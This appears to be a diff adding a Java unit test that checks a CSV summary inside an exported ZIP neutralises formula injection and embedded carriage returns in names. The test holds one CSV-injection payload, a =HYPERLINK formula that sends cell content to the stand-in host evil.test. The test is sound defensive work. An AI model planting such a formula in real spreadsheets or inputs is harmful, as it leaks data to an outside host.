@@ -140,4 +140,32 @@ class DocumentServiceTest {
         String summary = new String(entries.get("sommaire.csv"), StandardCharsets.UTF_8);
         assertThat(summary).contains(pa.code, pb.code, "Parchemin", documents.verificationUrl(pb.code));
     }
+
+    /**
+     * Issue 12: the summary was written by hand, a name typed by a centre reached Excel as a formula
+     * ({@code =HYPERLINK}) and a carriage return inside it broke the record. Now one cell, neutralised.
+     */
+    @Test
+    void theSummaryNeitherEvaluatesNorBreaksOnAHostileName() throws Exception {
+        String formula = "=HYPERLINK(\"http://evil.test/?\"&A1;\"Voir\")";
+        Candidate c = fixtures.newCandidateNamed("Martin\rDurand", formula);
+        IssuedDocument d = fixtures.issueTriParchemin(c.id, LocalDate.of(2026, 3, 2), "Rennes");
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        archive.write(List.of(d), out);
+        String summary = null;
+        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(out.toByteArray()))) {
+            for (ZipEntry e = zip.getNextEntry(); e != null; e = zip.getNextEntry()) {
+                if (e.getName().equals("sommaire.csv")) {
+                    summary = new String(zip.readAllBytes(), StandardCharsets.UTF_8);
+                }
+            }
+        }
+        assertThat(summary).isNotNull();
+        var records = org.apache.commons.csv.CSVFormat.DEFAULT.builder().setDelimiter(';').get()
+                .parse(new java.io.StringReader(summary.substring(1))).getRecords();
+        assertThat(records).hasSize(2);
+        assertThat(records.get(1).get(0)).isEqualTo("'" + formula + " MARTIN\rDURAND");
+        assertThat(records.get(1).get(5)).isEqualTo(d.code);
+        assertThat(summary).doesNotContain(";=HYPERLINK").doesNotStartWith("\uFEFF=");
+    }
 }
